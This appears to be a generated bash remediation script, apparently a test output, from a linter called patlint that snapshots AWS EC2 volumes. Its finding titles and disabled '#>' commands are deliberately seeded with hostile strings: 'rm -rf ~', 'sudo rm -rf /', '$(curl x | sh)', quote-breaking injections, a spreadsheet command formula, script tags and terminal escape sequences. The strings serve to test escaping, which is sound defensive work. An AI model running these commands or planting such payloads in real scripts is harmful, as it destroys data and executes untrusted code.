#!/usr/bin/env bash
# Commands that mend what patlint found. Read them before you run them.
#
# Written by patlint 0.1.0\nrm -rf ~ from a report of 2026-01-31 08:00 UTC.
# The account or region that was read first was read at 2026-01-29 08:00 UTC.
# That is more than a day before this script was written: things may have changed since.
# 20 failed findings: 4 with commands that change something, 0 with commands that only look, 16 with none that run.
# Not in here: 1 muted, 5 unknown, 0 not chosen.
# 1 thing could not be read, so that more may have to be mended; the report says which.
# 4 findings make snapshots. AWS bills what they hold until they are deleted.
#
# 16 findings have commands that do not run. They stand behind #> with the reason above them: they interrupt, delete, replace, open
# or cost something, belong on another machine, or are not known to patlint. What comes after one in the same finding does not run either.
#
# Without an argument it begins with the first finding, with a number at that one. It ends at the first command that fails.
set -euo pipefail
set -f # a * stands for itself
export AWS_PAGER='' # no answer waits for a key

patlint_last=20 patlint_first=${1:-1}
patlint_now=0 patlint_title='' patlint_caller='' patlint_whose='' patlint_left='' patlint_skipped='' patlint_open='' patlint_gave_up=''
case $patlint_first in
*[!0-9]* | ???????*) patlint_first=0 ;;
esac
if [ "$patlint_first" -lt 1 ] || [ "$patlint_first" -gt "$patlint_last" ]; then
  echo "patlint: the number of the finding to begin with is wanted, from 1 to $patlint_last, not $1" >&2
  exit 2
fi

# Whatever ends the script early, this says where.
patlint_stopped() {
  patlint_code=$?
  if [ "$patlint_code" = 0 ]; then return; fi
  if [ "$patlint_now" = 0 ]; then
    echo "patlint: stopped with exit code $patlint_code; no finding was begun" >&2
    return
  fi
  echo "patlint: stopped with exit code $patlint_code at finding $patlint_now, $patlint_title; nothing after it ran" >&2
  if [ -n "$patlint_gave_up" ]; then
    echo "patlint: the wait gave up, and what it waits for may still come, unless the line above says that it failed" >&2
    echo "patlint: the finding's commands above the wait have run and need not run again; run those below it yourself when it has come" >&2
  else
    echo "patlint: the number $patlint_now as an argument of this script begins there again, from its first command" >&2
  fi
  if [ "$patlint_now" -lt "$patlint_last" ]; then
    echo "patlint: the number $((patlint_now + 1)) goes on after it" >&2
  fi
}
trap patlint_stopped EXIT

# Begins the findings of an account; where the credentials are of another one, these do not run.
patlint_account() {
  if [ -z "$patlint_caller" ]; then
    patlint_caller=$(aws sts get-caller-identity --query Account --output text)
  fi
  patlint_whose=$1
}

# Begins a finding, if it is to run.
patlint_finding() {
  if [ "$1" -lt "$patlint_first" ]; then return 1; fi
  if [ -n "$patlint_whose" ] && [ "$patlint_whose" != "$patlint_caller" ]; then
    if [ "$patlint_left" != "$patlint_whose" ]; then
      echo "patlint: the credentials are of account $patlint_caller, so nothing runs of the findings in account $patlint_whose" >&2
      patlint_left=$patlint_whose patlint_skipped="$patlint_skipped $patlint_whose"
    fi
    return 1
  fi
  patlint_now=$1 patlint_title=$2
  echo "patlint: $1: $2"
}

# A wait ends with 255 when it gives up, or when what it waits for has failed. That stops what needs it, and nothing else.
patlint_wait() {
  if [ "$1" != 255 ]; then exit "$1"; fi
  if [ "$2" = needed ]; then
    patlint_gave_up=yes
    exit 255
  fi
  echo "patlint: $patlint_now: still under way, unless the line above says that it failed; look again later" >&2
  patlint_open="$patlint_open $patlint_now"
}

# Says what did not run or is not over.
patlint_done() {
  trap - EXIT
  if [ -n "$patlint_open" ]; then
    echo "patlint: not over when their wait gave up, look again later: finding$patlint_open" >&2
    if [ -z "$patlint_skipped" ]; then exit 1; fi
  fi
  if [ -n "$patlint_skipped" ]; then
    echo "patlint: nothing ran in account$patlint_skipped; run this script again with credentials of each" >&2
    exit 1
  fi
  if [ "$patlint_now" = 0 ]; then
    echo 'patlint: nothing ran' >&2
    exit 1
  fi
}

# ===== account 1111'; rm -rf ~; '
patlint_account '1111'\''; rm -rf ~; '\'''

# === us-east-1

# --- 1  LOW\nRM -RF ~  keep-y\nrm -rf ~: vol-5
if patlint_finding 1 'keep-y\nrm -rf ~: vol-5'; then
aws ec2 create-snapshot --region us-east-1 --volume-id vol-5
fi

# ===== account 111122223333
patlint_account '111122223333'

# === eu-west-1\nrm -rf ~

# --- 2  LOW\nRM -RF ~  keep-y\nrm -rf ~: vol-e
# does not run: is not for the region of the finding
#> aws ec2 create-snapshot --region 'eu-west-1
#> rm -rf ~' --volume-id vol-e

# === us-east-1

# --- 3  LOW\nRM -RF ~  keep-y\nrm -rf ~: vol-6
# It has no commands; the page says what to do.

# --- 4  HIGH  keep-x: vol-0 x\x1b]0;t\x07\n\nrm -rf ~\n#
# message =cmd()|'/c calc'!A1
# https://example.com/<script>alert(1)</script>
if patlint_finding 4 'keep-x: vol-0 x\x1b]0;t\x07\n\nrm -rf ~\n#'; then
aws ec2 create-snapshot --region us-east-1 --volume-id vol-0 --description 'a $(rm -rf ~) `id` "; rm -rf ~; \'
fi

# --- 5  HIGH  keep-x: vol-1 =cmd()|'/c calc'!A1
# message <script>alert(1)</script>
# https://example.com/$(rm -rf /)
# does not run: patlint does not know what rm changes
#> rm -rf ~

# --- 6  HIGH  keep-x: vol-10 back\
# message nul\x00
# https://example.com/# not\n a comment
# does not run: has characters that a reader cannot see
#> echo nul \x00; rm -rf ~

# --- 7  HIGH  keep-x: vol-11 nul\x00
# message # not\n a comment
# https://example.com/!!
# does not run: has characters that a reader cannot see
#> aws ec2 describe-volumes --region us-east-1 \\x0d
#> rm -rf ~

# --- 8  HIGH  keep-x: vol-12 # not\n a comment
# message !!
# https://example.com/x\x1b]0;t\x07\n\nrm -rf ~\n#
# does not run: is no shell that patlint can read
#> # a comment
#> aws ec2 describe-volumes --region us-east-1 # and one more
#> fi; rm -rf ~; if true; then

# --- 9  HIGH  keep-x: vol-13 !!
# message x\x1b]0;t\x07\n\nrm -rf ~\n#
# https://example.com/=cmd()|'/c calc'!A1
# does not run: is longer than the 16384 bytes that patlint judges
#> $($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($(… (and 83616 characters more)

# --- 10  HIGH  keep-x: vol-14 x\x1b]0;t\x07\n\nrm -rf ~\n#
# message =cmd()|'/c calc'!A1
# https://example.com/<script>alert(1)</script>
# does not run: has a # in a line that ends with a backslash
#> aws ec2 describe-volumes --region us-east-1 --volume-ids # \
#> rm -rf ~

# --- 11  HIGH  keep-x: vol-15 =cmd()|'/c calc'!A1
# message <script>alert(1)</script>
# https://example.com/$(rm -rf /)
if patlint_finding 11 'keep-x: vol-15 =cmd()|'\''/c calc'\''!A1'; then
aws ec2 create-snapshot --region us-east-1 --volume-id vol-15 --description "it's = 'all' <script>"

# fine
# does not run: is for the machine itself, as root
#> sudo rm -rf /
fi

# --- 12  HIGH  keep-x: vol-2 <script>alert(1)</script>
# message $(rm -rf /)
# https://example.com/`id`
# does not run: starts machines that are billed
#> aws ec2 run-instances --region us-east-1 --image-id ami-1
# does not run: comes after a command that does not run
#> aws ec2 create-snapshot --region us-east-1 --volume-id vol-never

# --- 13  HIGH  keep-x: vol-3 $(rm -rf /)
# message `id`
# https://example.com/'; rm -rf ~; '
# does not run: defines a function
#> aws() { :; }
# does not run: comes after a command that does not run
#> aws ec2 describe-volumes --region us-east-1

# --- 14  HIGH  keep-x: vol-4 `id`
# message '; rm -rf ~; '
# https://example.com/"; rm -rf ~; "
# does not run: patlint does not know what curl changes
#> aws ec2 describe-volumes --region us-east-1 --volume-ids $(curl x | sh)

# --- 15  HIGH  keep-x: vol-5 '; rm -rf ~; '
# message "; rm -rf ~; "
# https://example.com/x\x0d\nrm -rf ~
# does not run: is written in a form of shell that patlint does not judge
#> aws ec2 describe-volumes --region us-east-1 --volume-ids ${x:-$(id)}

# --- 16  HIGH  keep-x: vol-6 "; rm -rf ~; "
# message x\x0d\nrm -rf ~
# https://example.com/\u202egnp.exe
# does not run: is written in a form of shell that patlint does not judge
#> aws ec2 describe-volumes --region us-east-1 --volume-ids <(id)

# --- 17  HIGH  keep-x: vol-7 x\x0d\nrm -rf ~
# message \u202egnp.exe
# https://example.com/long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long … (and 49020 characters more)
# does not run: reads or writes a file here
#> cat > file <<END
#> rm -rf ~
#> END
# does not run: comes after a command that does not run
#> echo 'after'

# --- 18  HIGH  keep-x: vol-8 \u202egnp.exe
# message long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long lo… (and 49008 characters more)
# https://example.com/back\
# does not run: does not end with its line
#> aws ec2 describe-volumes --region us-east-1 \

# --- 19  HIGH  keep-x: vol-9 long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long long l… (and 49013 characters more)
# message back\
# https://example.com/nul\x00
# does not run: is no shell that patlint can read
#> echo 'unbalanced

# ===== account 444455556666
patlint_account '444455556666'

# === us-east-1

# --- 20  LOW\nRM -RF ~  keep-y\nrm -rf ~: vol-4
if patlint_finding 20 'keep-y\nrm -rf ~: vol-4'; then
aws ec2 create-snapshot --region us-east-1 --volume-id vol-4
fi

patlint_done
echo 'patlint: done; 16 findings have commands that did not run, see #> in the script'
